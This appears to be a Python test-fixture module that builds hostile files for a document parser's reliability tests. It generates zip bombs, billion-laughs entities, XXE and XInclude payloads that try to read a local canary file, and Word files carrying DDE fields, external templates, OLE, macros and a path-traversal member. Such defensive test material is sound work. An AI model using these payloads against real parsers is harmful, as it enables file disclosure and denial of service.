"""Files made to harm (reliability study A.8, S4 to S6), each built when a test asks for it.

`BOMBS` are to be refused or read harmlessly; `LEAKS` try to make a reader open a file that is not its own;
`PASSENGERS` carry what must not survive into anything that we write.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path

from tests.fuzz.packages import zipped as stored
from tests.fuzz.seeds import small_html, small_text, small_xlsx
from tests.imports.files import docx, p, wrap, zipped

TITLE = "禾岭县银杏镇2023年政府信息公开工作年度报告"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _document(body: str) -> str:
    return wrap("document", f"<w:body>{p(TITLE)}{p('一、总体情况')}{body}</w:body>")


def _rels(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {n: archive.read(n) for n in archive.namelist()}


def _sheet(inner: str, merged: str = "", shared: str = "") -> bytes:
    parts = _rels(small_xlsx())
    parts["xl/worksheets/sheet1.xml"] = (
        f'<worksheet xmlns="{_MAIN}"><sheetData>{inner}</sheetData>{merged}</worksheet>'.encode()
    )
    if shared:
        parts["xl/sharedStrings.xml"] = shared.encode()
    return zipped(dict(parts))


# --- zips ---------------------------------------------------------------------------------------


def flat() -> bytes:
    """400 MB of blanks in one part."""
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("word/document.xml", "w") as part,
    ):
        for _ in range(400):
            part.write(b" " * (1 << 20))
    return buffer.getvalue()


def many_parts() -> bytes:
    """Parts that are each allowed and together are not: 20 of 15 MB, a hundredth of that packed."""
    piece = random.Random(1).randbytes(9000) + b" " * ((1 << 20) - 9000)
    return zipped(
        {"word/document.xml": _document("")} | {f"word/m{i}.bin": piece * 15 for i in range(20)}
    )


def nested() -> bytes:
    """A zip that holds zips that hold a bomb."""
    inner = zipped({"a.txt": b" " * (16 << 20)})
    for _ in range(3):
        inner = stored([(f"{i}.zip", inner) for i in range(6)])
    return zipped({"word/document.xml": _document(p("正文")), "word/embeddings/a.zip": inner})


def only_zips() -> bytes:
    """A zip of zips and nothing else."""
    return stored([(f"{i}.zip", zipped({"a.txt": b" " * (1 << 20)})) for i in range(16)])


def lying_sizes() -> bytes:
    """A part of 8 MB whose records both say 1000 bytes."""
    data = bytearray(zipped({"word/document.xml": b" " * (8 << 20)}))
    size = (8 << 20).to_bytes(4, "little")
    while (place := data.find(size)) >= 0:
        data[place : place + 4] = (1000).to_bytes(4, "little")
    return bytes(data)


def _directory(
    first: bytes, packed: int, size: int, crc: int, names: list[str], method: int
) -> bytes:
    """A zip whose directory gives one and the same record under many names."""
    entries = b"".join(
        struct.pack(
            "<4s6H3I5H2I",
            b"PK\x01\x02",
            20,
            20,
            0,
            method,
            0,
            0,
            crc,
            packed,
            size,
            len(n),
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + n.encode()
        for n in names
    )
    count = min(len(names), 0xFFFF)
    return (
        first
        + entries
        + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(entries), len(first), 0)
    )


def overlapping() -> bytes:
    """1,500 members that all are the same 1 MB of the file."""
    content = b" " * (1 << 20)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(content) + packer.flush()
    crc = zlib.crc32(content)
    name = "word/document.xml"
    head = struct.pack(
        "<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(packed), len(content), len(name), 0
    )
    names = [name, *(f"word/m{i}.xml" for i in range(1499))]
    return _directory(head + name.encode() + packed, len(packed), len(content), crc, names, 8)


def million_members() -> bytes:
    """A directory of a million members, each of two dozen bytes more than nothing."""
    head = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"x"
    return _directory(
        head, 0, 0, 0, ["word/document.xml", *(f"{i:x}" for i in range(1_000_000))], 0
    )


def strange_method() -> bytes:
    """LZMA, whose window may be of any size."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_LZMA) as archive:
        archive.writestr("word/document.xml", _document(p("正文")))
    return buffer.getvalue()


# --- XML ----------------------------------------------------------------------------------------


def deep_xml(depth: int = 100_000) -> bytes:
    """Elements inside elements."""
    return zipped({"word/document.xml": _document("<w:sdt><w:sdtContent>" * depth + _padding())})


def long_text() -> bytes:
    """One text of 11 MB that does not compress well enough to be called a bomb."""
    return docx(p(_noise(11 << 20)))


def many_elements() -> bytes:
    """A million empty paragraphs in 7 MB."""
    return zipped({"word/document.xml": _document("<w:p/>" * 1_100_000 + _padding())})


def _padding() -> str:
    """What does not compress, so that a part is no bomb by its ratio and goes on to the parser."""
    return f"<!--{random.Random(2).randbytes(40_000).hex()}-->"


def many_attributes() -> bytes:
    """An element of 300,000 attributes."""
    return docx("<w:p " + " ".join(f'a{i}="{i}"' for i in range(300_000)) + "/>")


def wide_row() -> bytes:
    """A table of one row of 300,000 cells, each over 200 columns."""
    return docx(
        "<w:tbl><w:tr>"
        + '<w:tc><w:tcPr><w:gridSpan w:val="200"/></w:tcPr></w:tc>' * 300_000
        + "</w:tr></w:tbl>"
    )


def entities() -> bytes:
    """A billion laughs."""
    names = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10 if i else "哈"}">' for i in range(10))
    return zipped({"word/document.xml": f"<!DOCTYPE a [{names}]>" + _document(p("&e9;"))[38:]})


@cache
def _noise(size: int) -> str:
    letters = random.Random(3).choices("abcdefghijklmnopqrstuvwxyz", k=100_000)
    return ("".join(letters) * (size // 100_000 + 1))[:size]


# --- sheets -------------------------------------------------------------------------------------


def far_cell() -> bytes:
    """One cell at the far end of the sheet and one at its beginning."""
    return _sheet(
        '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    )


def million_merged() -> bytes:
    """A million merged cells."""
    cells = "".join(f'<mergeCell ref="A{i}:B{i}"/>' for i in range(1, 1_000_001))
    return _sheet(
        '<row r="1"><c r="A1"><v>1</v></c></row>',
        f'<mergeCells count="1000000">{cells}</mergeCells>',
    )


def many_strings() -> bytes:
    """50 MB of shared strings."""
    strings = "".join(f"<si><t>{i}{_noise(400)}</t></si>" for i in range(120_000))
    return _sheet(
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row>', "", f'<sst xmlns="{_MAIN}">{strings}</sst>'
    )


def lying_count() -> bytes:
    """Shared strings that say they are four billion."""
    return _sheet(
        '<row r="1"><c r="A1" t="s"><v>0</v></c></row>',
        "",
        f'<sst xmlns="{_MAIN}" count="4294967295" uniqueCount="4294967295"><si><t>甲</t></si></sst>',
    )


# --- pages and texts ----------------------------------------------------------------------------


def _page(inner: str) -> bytes:
    return small_html().replace("</h1>", "</h1>" + inner).encode()


def _lines(inner: str) -> bytes:
    return (small_text() + "\n" + inner).encode()


BOMBS: dict[str, tuple[str, Callable[[], bytes]]] = {
    "zip-flat": ("a.docx", flat),
    "zip-many-parts": ("a.docx", many_parts),
    "zip-nested": ("a.docx", nested),
    "zip-only-zips": ("a.docx", only_zips),
    "zip-lying-sizes": ("a.docx", lying_sizes),
    "zip-overlapping": ("a.docx", overlapping),
    "zip-million-members": ("a.docx", million_members),
    "zip-million-members-gia": ("a.gia", million_members),
    "zip-method": ("a.docx", strange_method),
    "gia-flat": (
        "a.gia",
        lambda: zipped({"manifest.json": b" " * (80 << 20), "report.json": "{}"}),
    ),
    "gia-deep": ("a.gia", lambda: zipped({"manifest.json": "[" * 500_000, "report.json": "{}"})),
    "xml-deep-1000": ("a.docx", lambda: deep_xml(1000)),
    "xml-deep-100000": ("a.docx", deep_xml),
    "xml-long-text": ("a.docx", long_text),
    "xml-many-elements": ("a.docx", many_elements),
    "xml-many-attributes": ("a.docx", many_attributes),
    "xml-wide-row": ("a.docx", wide_row),
    "xml-entities": ("a.docx", entities),
    "sheet-far-cell": ("a.xlsx", far_cell),
    "sheet-million-merged": ("a.xlsx", million_merged),
    "sheet-many-strings": ("a.xlsx", many_strings),
    "sheet-lying-count": ("a.xlsx", lying_count),
    "html-deep-1000": ("a.html", lambda: _page("<div>" * 1000)),
    "html-deep-100000": ("a.html", lambda: _page("<b>" * 100_000)),
    "html-spans": (
        "a.html",
        lambda: _page("<table>" + "<tr><td rowspan=65535 colspan=1000>1" * 2000 + "</table>"),
    ),
    "html-comments": ("a.html", lambda: _page("<!--" * 400_000)),
    "html-declarations": ("a.html", lambda: _page("<!a" * 500_000)),
    "html-angles": ("a.html", lambda: _page("<" * 1_500_000)),
    "text-line-40-mb": ("a.txt", lambda: _lines("政" * (13 << 20))),
    "text-line-100-mb": ("a.txt", lambda: b"a" * (100 << 20)),
    "text-dots": ("a.txt", lambda: _lines("." * 1_500_000)),
    "text-tabs": ("a.txt", lambda: _lines("\t1\n" * 500_000)),
    "text-ragged": ("a.txt", lambda: _lines("a" + "\t" * 20_000 + "b\n" + "a\tb\n" * 20_000)),
    "text-headings": ("a.txt", lambda: _lines("一、总体情况\n" * 50_000)),
}
"""Name to the file's name and what makes it. None of them is a report that an office has."""

LONG = frozenset(
    {
        "zip-flat", "zip-many-parts", "zip-million-members", "zip-million-members-gia", "gia-flat", "xml-long-text",
        "xml-many-elements", "xml-many-attributes", "xml-wide-row", "sheet-million-merged", "sheet-many-strings",
        "text-line-40-mb", "text-line-100-mb", "text-tabs", "html-angles", "html-comments", "html-declarations",
        "text-dots", "text-headings", "zip-nested", "zip-overlapping", "html-deep-100000", "text-ragged",
    }
)  # fmt: skip
"""Those that take a second or more to make or to refuse."""


# --- files that reach for other files -----------------------------------------------------------

_PAYLOADS = (
    '<!DOCTYPE a [<!ENTITY x SYSTEM "{uri}">]>',
    '<!DOCTYPE a [<!ENTITY x PUBLIC "a" "{uri}">]>',
    '<!DOCTYPE a SYSTEM "{uri}">',
    '<!DOCTYPE a PUBLIC "-//a//b" "{uri}">',
    '<!DOCTYPE a [<!ENTITY % p SYSTEM "{uri}"> %p;]>',
    '<!DOCTYPE a [<!ENTITY % f SYSTEM "{uri}"><!ENTITY % e "<!ENTITY x SYSTEM \'{uri}?%f;\'>"> %e;]>',
    '<!doctype a [<!entity x system "{uri}">]>',
    '<!DOCTYPE\ta\n[\n<!ENTITY\nx\nSYSTEM\n"{path}">]>',
    '<!-- x --><!DOCTYPE a [<!ENTITY x SYSTEM "{path}">]>',
    '<?xml-stylesheet type="text/xsl" href="{uri}"?>',
)
_PARTS = (
    "word/document.xml", "word/styles.xml", "word/numbering.xml", "word/footnotes.xml", "word/header1.xml", "_rels/.rels",
    "[Content_Types].xml", "customXml/item1.xml",
)  # fmt: skip


def leaks(canary: Path) -> dict[str, bytes]:
    """Files that ask for `canary` to be read: each payload in each XML part, XInclude, links, HTML."""
    made: dict[str, bytes] = {}
    body = f"<w:body>{p(TITLE)}{p('一、总体情况')}{p('&x;')}</w:body>"
    whole = _rels(docx(p(TITLE) + p("一、总体情况")))
    for number, payload in enumerate(_PAYLOADS):
        declared = payload.format(uri=canary.as_uri(), path=canary)
        for part in _PARTS:
            root = wrap("document", body)
            content = declared + (
                root.partition("?>")[2] if part == "word/document.xml" else "<a>&x;</a>"
            )
            for encoding in ("utf-8", "utf-16") if part == "word/document.xml" else ("utf-8",):
                text = f'<?xml version="1.0" encoding="{encoding}"?>{content}'
                name = f"{number}-{part.replace('/', '-')}-{encoding}.docx"
                made[name] = zipped(whole | {part: text.encode(encoding)})
        sheet = f'{declared}<worksheet xmlns="{_MAIN}"><sheetData><row><c t="str"><v>&x;</v></c></row></sheetData></worksheet>'
        made[f"{number}.xlsx"] = zipped(
            _rels(small_xlsx()) | {"xl/worksheets/sheet1.xml": sheet.encode()}
        )
        made[f"{number}.html"] = declared.encode() + _page("<p>&x;</p>")
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{canary.as_uri()}" parse="text"/>'
    made["xinclude.docx"] = docx(p(TITLE) + p("一、总体情况") + include)
    field = f'<w:p><w:r><w:instrText>INCLUDETEXT "{canary}"</w:instrText></w:r></w:p>'
    made["field.docx"] = docx(p(TITLE) + p("一、总体情况") + field)
    made["frame.html"] = _page(
        f'<iframe src="{canary.as_uri()}"></iframe><object data="{canary}"></object><img src="{canary}">'
    )
    made["link.md"] = f"# {TITLE}\n\n## 一、总体情况\n\n![x]({canary})\n".encode()
    return made


# --- what must stay behind ----------------------------------------------------------------------

MARK = "zz-hostile-zz"
"""In every target and name that the passengers carry."""

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def passengers() -> bytes:
    """A good report with external relationships, template, OLE, altChunk, macros and DDE fields."""
    relations = "".join(
        f'<Relationship Id="r{i}" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'
        for i, (kind, target, mode) in enumerate(
            (
                ("attachedTemplate", f"http://{MARK}/a.dotm", ' TargetMode="External"'),
                ("hyperlink", f"http://{MARK}/", ' TargetMode="External"'),
                ("image", f"\\\\{MARK}\\a.png", ' TargetMode="External"'),
                ("oleObject", f"embeddings/{MARK}.bin", ""),
                ("oleObject", f"file:///{MARK}.xls", ' TargetMode="External"'),
                ("aFChunk", f"{MARK}.html", ""),
                ("subDocument", f"{MARK}.docx", ' TargetMode="External"'),
                ("vbaProject", "vbaProject.bin", ""),
            )
        )
    )
    field = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>{}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    body = "".join(
        (
            p(TITLE), p("一、总体情况"), p("全年公开惠农补贴信息62条。"),
            '<w:p><w:hyperlink r:id="r1"><w:r><w:t>链接文字</w:t></w:r></w:hyperlink></w:p>',
            field.format(f'DDEAUTO c:\\\\{MARK} "a"'), field.format(f'INCLUDEPICTURE "http://{MARK}/x.png"'),
            f'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="r3" ProgID="{MARK}"/></w:object></w:r></w:p>',
            '<w:altChunk r:id="r5"/><w:subDoc r:id="r6"/>',
        )
    )  # fmt: skip
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    parts = _rels(docx(body)) | {
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{package}">{relations}</Relationships>'.encode(),
        "word/_rels/settings.xml.rels": f'<Relationships xmlns="{package}">{relations}</Relationships>'.encode(),
        "word/settings.xml": wrap("settings", '<w:attachedTemplate r:id="r0"/>').encode(),
        f"word/embeddings/{MARK}.bin": MARK.encode(),
        f"word/{MARK}.html": f"<script>{MARK}</script>".encode(),
        "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + MARK.encode(),
        f"../{MARK}.txt": MARK.encode(),
    }
    return zipped(dict(parts))
